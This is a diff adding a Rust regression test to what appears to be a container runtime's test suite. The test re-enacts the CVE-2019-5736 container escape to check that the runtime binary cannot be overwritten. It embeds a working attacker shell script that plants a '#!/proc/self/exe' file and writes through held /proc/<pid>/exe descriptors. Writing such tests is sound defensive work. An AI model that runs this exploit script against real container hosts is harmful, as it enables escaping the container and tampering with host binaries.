@@ -199,6 +199,86 @@ fn runtime_binary_of_exec_in_progress_is_out_of_reach() {
     env.assert_clean();
 }
 
+/// Copy the shared libraries `bin` is linked with (and its dynamic loader) into `rootfs` at
+/// the same paths; nothing for a static binary.
+fn give_rootfs_the_libraries_of(rootfs: &Path, bin: &Path) {
+    let out = std::process::Command::new("ldd").arg(bin).output().expect("running ldd");
+    for line in String::from_utf8_lossy(&out.stdout).lines() {
+        let Some(lib) = line.split_whitespace().find(|w| w.starts_with('/')) else { continue };
+        let dst = rootfs.join(lib.trim_start_matches('/'));
+        fs::create_dir_all(dst.parent().unwrap()).unwrap();
+        fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copying {lib} into the rootfs: {e}"));
+    }
+}
+
+/// CVE-2019-5736, the original exploit with the default capabilities: the container plants
+/// `/bin/evil` whose first line is `#!/proc/self/exe`, and the operator runs `exec <id>
+/// /bin/evil` 20 times. Each time the kernel runs the runtime's own binary inside the container
+/// (as the interpreter of the script), as a dumpable container process. The container's init
+/// (pids in its pid namespace are sequential) opens each such process's `/proc/<pid>/exe`,
+/// keeps the fd, and writes through it once the process has exited. The runtime binary (a copy:
+/// see [`runtime_copy`]) must be unchanged, and the attack must have held the exe each time.
+#[test]
+fn shebang_proc_self_exe_cannot_overwrite_the_runtime() {
+    let Some(env) = Env::new("cve-2019-5736-shebang") else { return };
+    let copy = runtime_copy(&env);
+    let before = fs::read(&copy).unwrap();
+    let rootfs = env.writable_rootfs();
+    // The image carries the libraries the runtime's binary needs (a glibc image), so that the
+    // kernel can run that binary inside the container.
+    give_rootfs_the_libraries_of(&rootfs, &copy);
+    let bundle = env.bundle.to_string_lossy().into_owned();
+    // Builtins only while it watches (a glob of /proc, an open of each new process's exe);
+    // a process it held is not tried again.
+    let attacker = r#"printf '#!/proc/self/exe\n' > /bin/evil; chmod 755 /bin/evil; echo planted
+last=1
+while :; do
+  for d in /proc/[0-9]*; do
+    p=${d#/proc/}
+    [ "$p" -gt "$last" ] || continue
+    if { command exec 3<$d/exe; } 2>/dev/null; then
+      last=$p; i=0; w=no
+      while [ $i -lt 3000 ]; do
+        if { command echo pwned >/proc/self/fd/3; } 2>/dev/null; then w=yes; break; fi
+        i=$((i+1))
+      done
+      echo "held $p wrote=$w exe=$(readlink /proc/self/fd/3)"
+      exec 3<&-
+    fi
+  done
+done"#;
+    env.sh(attacker);
+    env.write_config();
+    let c = env.container("shebang");
+    let create = spawn_with(&env, &copy, &["create", "--bundle", &bundle, &c.id]);
+    let container_stdout = create.stdout_path.clone();
+    create.wait().ok();
+    spawn_with(&env, &copy, &["start", &c.id]).wait().ok();
+    wait_until(TIMEOUT, "the attacker to plant /bin/evil", || fs::read_to_string(&container_stdout).ok().filter(|s| s.contains("planted")));
+    const EXECS: usize = 20;
+    for i in 0..EXECS {
+        // The exec "fails": the runtime's binary, run with the script as argument, refuses it.
+        spawn_with(&env, &copy, &["exec", &c.id, "/bin/evil"]).wait();
+        // The attacker reports each hold once it gave up writing (the asserts below show
+        // what it saw if it never does).
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        while std::time::Instant::now() < deadline {
+            let seen = fs::read_to_string(&container_stdout).unwrap_or_default();
+            if seen.matches("held ").count() > i || fs::read(&copy).unwrap() != before {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+    let seen = fs::read_to_string(&container_stdout).unwrap_or_default();
+    drop(c);
+    assert!(fs::read(&copy).unwrap() == before, "the runtime binary was overwritten from inside the container:\n{seen}");
+    let held = seen.lines().filter(|l| l.starts_with("held ")).count();
+    assert_eq!(held, EXECS, "the attack did not reach the interpreter each time (the test would prove nothing):\n{seen}");
+    assert!(!seen.contains("wrote=yes"), "{seen}");
+    env.assert_clean();
+}
+
 /// Socket activation: `LISTEN_FDS=2` for the runtime's own pid passes fds 3 and 4 (and
 /// nothing above) with `LISTEN_FDS=2 LISTEN_PID=1`; `--preserve-fds 1` then passes one more.
 /// Fds meant for another process (LISTEN_PID elsewhere) are not passed at all.
